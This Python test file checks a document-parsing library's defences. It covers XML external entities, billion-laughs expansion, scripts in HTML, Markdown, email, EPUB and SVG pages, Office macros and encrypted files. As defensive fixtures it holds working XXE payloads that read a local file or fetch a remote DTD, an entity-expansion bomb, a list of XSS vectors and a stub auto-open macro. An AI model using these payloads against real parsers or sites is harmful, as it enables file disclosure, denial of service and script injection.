"""XML that reaches for other files or swells, pages that carry programs, macros and locks."""

import io
import socket
import tracemalloc
import zipfile
from collections.abc import Callable, Iterator
from email.message import EmailMessage
from pathlib import Path

import pytest

from alexandria.errors import CorruptFileError, PasswordProtectedError, UnreadableError
from alexandria.knowledge.parsing import detect_media_type, parse_document
from alexandria.knowledge.parsing.archives import parse_xml

Samples = dict[str, bytes]
MEGABYTE = 1 << 20
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
SECRET = "the password is swordfish"


def repack(
    content: bytes,
    change: Callable[[str, bytes], bytes],
    packing: int = zipfile.ZIP_DEFLATED,
) -> bytes:
    """The archive with its entries changed."""
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as source,
        zipfile.ZipFile(buffer, "w", packing) as target,
    ):
        for name in source.namelist():
            target.writestr(name, change(name, source.read(name)))
    return buffer.getvalue()


def add(content: bytes, *members: tuple[str, bytes]) -> bytes:
    buffer = io.BytesIO(content)
    with zipfile.ZipFile(buffer, "a") as archive:
        for name, data in members:
            archive.writestr(name, data)
    return buffer.getvalue()


def declare(part: bytes, subset: str, use: str, encoding: str = "utf-8") -> bytes:
    """The XML part with a document type, and a use of what that declares in its first text."""
    text = part.decode("utf-8")
    _, mark, rest = text.partition("?>") if text.startswith("<?xml") else ("", "", text)
    rest = rest.lstrip() if mark else text
    root = rest[1:].split(maxsplit=1)[0].split(">")[0].split("/")[0]
    at = rest.find("</")
    used = rest[:at] + use + rest[at:]
    head = f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE {root} {subset}>'
    return (head + used).encode(encoding)


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text(SECRET)
    return path


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[object]]:
    """Every attempt to connect is refused, and noted."""
    attempts: list[object] = []

    def refuse(_: socket.socket, address: object) -> None:
        attempts.append(address)
        raise OSError("no network in this test")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    yield attempts
    assert attempts == []


CONTAINERS = ("report.docx", "deck.pptx", "prices.xlsx", "seeds.odt", "book.epub")


@pytest.mark.usefixtures("no_network")
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
@pytest.mark.parametrize("name", CONTAINERS)
def test_no_part_of_a_container_reads_a_file_or_swells(
    samples: Samples, name: str, encoding: str, secret: Path
) -> None:
    kinds = {
        "swells": (f'[<!ENTITY l0 "laugh">{LAUGHS}]', "&l9;"),
        "reads": (f'[<!ENTITY x SYSTEM "{secret.as_uri()}">]', "&x;"),
        "asks": ('[<!ENTITY % x SYSTEM "http://192.0.2.1/x.dtd"> %x;]', ""),
        "loads": (f'SYSTEM "{secret.as_uri()}"', ""),
    }
    parse_document(samples[name], name)  # what its reader imports is no part of the measure
    for subset, use in kinds.values():
        hostile = repack(
            samples[name],
            lambda member, part, subset=subset, use=use: (
                declare(part, subset, use, encoding) if _is_xml(member) else part
            ),
        )
        tracemalloc.start()
        try:
            text = parse_document(hostile, name).text
        except UnreadableError as error:
            text = error.message
        finally:
            peak = tracemalloc.get_traced_memory()[1]
            tracemalloc.stop()
        assert SECRET not in text
        assert text.count("laugh") < 20
        assert peak < 64 * MEGABYTE


def _is_xml(member: str) -> bool:
    return member.endswith((".xml", ".rels", ".opf", ".xhtml")) and "Content_Types" not in member


@pytest.mark.parametrize("name", ["report.docx", "deck.pptx", "prices.xlsx", "seeds.odt"])
def test_office_files_that_declare_entities_are_refused(samples: Samples, name: str) -> None:
    def change(member: str, part: bytes) -> bytes:
        wanted = member in {"word/document.xml", "xl/workbook.xml", "content.xml"} or (
            member == "ppt/presentation.xml"
        )
        return declare(part, '[<!ENTITY a "b">]', "") if wanted else part

    with pytest.raises(CorruptFileError, match="entities"):
        parse_document(repack(samples[name], change), name)


@pytest.mark.usefixtures("no_network")
def test_xml_is_parsed_without_entities_files_or_network(secret: Path) -> None:
    for subset in (
        f'[<!ENTITY l0 "laugh">{LAUGHS}]',
        f'[<!ENTITY l9 SYSTEM "{secret.as_uri()}">]',
        '[<!ENTITY l9 SYSTEM "http://192.0.2.1/x">]',
    ):
        try:
            root = parse_xml(f"<!DOCTYPE a {subset}><a>before &l9; after</a>".encode())
        except CorruptFileError:
            assert "laugh" in subset
        else:
            text = "".join(root.itertext())
            assert text.startswith("before ")
            assert SECRET not in text


SCRIPTED = """
<p onclick="alert(1)" style="background:url(javascript:alert(2))">Good <b>beans</b>.</p>
<script>alert(3)</script><script type="text/template">alert(4)</script>
<style>p { content: "alert(5)" }</style>
<a href="javascript:alert(6)">Read on.</a>
<svg><script>alert(7)</script><text onload="alert(8)">drawn</text></svg>
<iframe srcdoc="&lt;script&gt;alert(9)&lt;/script&gt;">alert(10)</iframe>
<template><p>alert(11)</p></template><object data="alert(12)">alert(13)</object>
<noscript>alert(14)</noscript><img src=x onerror="alert(15)">
<math><annotation-xml encoding="text/html"><script>alert(16)</script></annotation-xml></math>
<!-- alert(17) --><!--[if IE]><script>alert(18)</script><![endif]-->
<form action="javascript:alert(19)"><button formaction="alert(20)">alert(21)</button></form>
<details ontoggle="alert(22)" open><summary>More.</summary></details>
"""


def scripted_mail() -> bytes:
    message = EmailMessage()
    message["From"], message["To"], message["Subject"] = "a@example.org", "b@example.org", "Hi"
    message.set_content(f"<html><body>{SCRIPTED}</body></html>", subtype="html")
    return message.as_bytes()


@pytest.mark.parametrize(
    ("name", "make"),
    [
        ("x.html", lambda: f"<html><body>{SCRIPTED}</body></html>".encode()),
        ("x.md", lambda: f"# Beans\n\n{SCRIPTED}\n\n[Read](javascript:alert(1)).\n".encode()),
        ("x.eml", scripted_mail),
    ],
)
def test_programs_in_pages_never_reach_the_text(name: str, make: Callable[[], bytes]) -> None:
    document = parse_document(make(), name)
    assert "Good beans." in document.text
    assert "Read on." in document.text
    assert "alert" not in document.text
    assert all("alert" not in image.description for image in document.images)


def test_programs_in_a_book_never_reach_the_text(samples: Samples) -> None:
    content = repack(
        samples["book.epub"],
        lambda name, part: (
            part.replace(b"<p>", SCRIPTED.encode() + b"<p>") if name.endswith(".xhtml") else part
        ),
    )
    text = parse_document(content, "book.epub").text
    assert "Good beans." in text
    assert "alert" not in text


def test_a_drawing_is_read_and_not_drawn(secret: Path) -> None:
    drawing = f"""<?xml version="1.0"?>
        <!DOCTYPE svg [<!ENTITY x SYSTEM "{secret.as_uri()}">]>
        <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
            onload="alert(1)"><title>The north bed</title><desc>Where beans grow. &x;</desc>
        <script>alert(2)</script><style>text {{ fill: red }}</style>
        <image xlink:href="{secret.as_uri()}"/><a xlink:href="javascript:alert(3)">
        <text x="1" y="2">Row <tspan font-weight="bold">on</tspan>e<tspan x="1" y="9">Row two
        </tspan><script>alert(4)</script></text></a>
        <foreignObject><p xmlns="http://www.w3.org/1999/xhtml">A note.<script>alert(5)</script></p>
        </foreignObject></svg>""".encode()
    document = parse_document(drawing, "plan.svg")
    assert (document.title, document.media_type) == ("The north bed", "image/svg+xml")
    assert "Row one Row two" in document.text
    assert "A note." in document.text
    assert "alert" not in document.text
    assert SECRET not in document.text


def test_text_that_looks_like_a_program_stays_text() -> None:
    page = b"<html><body><p>&lt;script&gt;alert(1)&lt;/script&gt;</p></body></html>"
    assert parse_document(page, "x.html").text == "<script>alert(1)</script>"


MACRO_KINDS = {
    "report.docx": (
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    ),
    "deck.pptx": (
        b"application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
        b"application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml",
    ),
    "prices.xlsx": (
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    ),
}


@pytest.mark.parametrize("name", MACRO_KINDS)
@pytest.mark.parametrize("is_declared", [True, False])
def test_macros_are_left_alone_and_noted(samples: Samples, name: str, is_declared: bool) -> None:
    plain, macro = MACRO_KINDS[name]
    content = add(samples[name], ("word/vbaProject.bin", b"Sub AutoOpen() Shell"))
    if is_declared:
        content = repack(content, lambda _, part: part.replace(plain, macro))
    document = parse_document(content, name[:-1] + "m" if is_declared else name)
    assert document.text == parse_document(samples[name], name).text
    assert [note.code for note in document.notes] == ["macros_ignored"]


@pytest.mark.parametrize("kind", ["slideshow", "template"])
def test_slide_shows_and_templates_are_read_as_slides(samples: Samples, kind: str) -> None:
    content = repack(
        samples["deck.pptx"],
        lambda _, part: part.replace(b"presentation.main+xml", f"{kind}.main+xml".encode()),
    )
    document = parse_document(content, "deck.ppsx")
    assert document.text == parse_document(samples["deck.pptx"], "deck.pptx").text
    assert document.notes == ()


def test_a_cut_file_with_macros_is_called_what_it_is(samples: Samples) -> None:
    with pytest.raises(CorruptFileError) as caught:
        parse_document(samples["report.docx"][:4000], "report.docm")
    assert "zip container" in caught.value.message
    assert detect_media_type(samples["report.docx"][:4000], "report.docm").endswith(".document")


ODF_LOCK = (
    b'<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
    b'<manifest:file-entry manifest:full-path="content.xml"><manifest:encryption-data/>'
    b"</manifest:file-entry></manifest:manifest>"
)


def test_a_locked_opendocument_file_is_refused(samples: Samples) -> None:
    content = repack(
        samples["seeds.odt"],
        lambda name, part: ODF_LOCK if name == "META-INF/manifest.xml" else part,
    )
    with pytest.raises(PasswordProtectedError) as caught:
        parse_document(content, "seeds.odt")
    assert "password" in caught.value.advice


def test_scrambled_fonts_do_not_lock_a_book(samples: Samples) -> None:
    lock = '<encryption><CipherReference URI="{}"/></encryption>'
    fonts = add(samples["book.epub"], ("META-INF/encryption.xml", lock.format("e/a.ttf").encode()))
    assert parse_document(fonts, "book.epub").text == parse_document(
        samples["book.epub"], "book.epub"
    ).text  # fmt: skip
    chapter = lock.format("e/text/two.xhtml").encode()
    with pytest.raises(PasswordProtectedError):
        parse_document(add(samples["book.epub"], ("META-INF/encryption.xml", chapter)), "b.epub")


def test_a_damaged_chapter_costs_only_itself(samples: Samples) -> None:
    content = repack(samples["book.epub"], lambda _, part: part, zipfile.ZIP_STORED)
    document = parse_document(content.replace(b"No heading here", b"No heading hare"), "b.epub")
    problems = [unit.problem.code if unit.problem else "" for unit in document.units]
    assert problems == ["no_text_layer", "", "corrupt_file", ""]
    assert "It was a dark night." in document.text


def test_a_chapter_that_is_listed_and_missing_is_accounted_for(samples: Samples) -> None:
    content = repack(
        samples["book.epub"],
        lambda name, part: (
            part.replace(b'<itemref idref="two"/>', b'<itemref idref="two"/><itemref idref="x"/>')
            if name.endswith(".opf")
            else part
        ),
    )
    document = parse_document(content, "book.epub")
    problems = [unit.problem.code if unit.problem else "" for unit in document.units]
    assert problems == ["no_text_layer", "", "", "corrupt_file", ""]


def test_what_a_page_declares_is_none_of_its_text(secret: Path) -> None:
    subset = f'[<!ENTITY l0 "ha">{LAUGHS}<!ENTITY x SYSTEM "{secret.as_uri()}">]'
    for doctype in ("html", 'html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "x.dtd"'):
        page = f"<!DOCTYPE {doctype} {subset}><html><body><p>Beans &l9; grow.</p></body></html>"
        document = parse_document(page.encode(), "x.html")
        assert document.text == "Beans &l9; grow."


def test_a_drawing_is_one_whatever_its_document_type_is_called() -> None:
    drawing = '<!DOCTYPE laughs [<!ENTITY l0 "ha">{}]><svg><text>Bed &l{};</text></svg>'
    document = parse_document(drawing.format("", 0).encode(), "x.svg")
    assert (document.media_type, document.text) == ("image/svg+xml", "Bed")
    for content in (drawing.format(LAUGHS, 9), "<drawing>Bed</drawing>"):
        with pytest.raises(CorruptFileError):
            parse_document(content.encode(), "x.svg")
    assert parse_document(b"Nothing was drawn.", "x.svg").media_type == "text/plain"
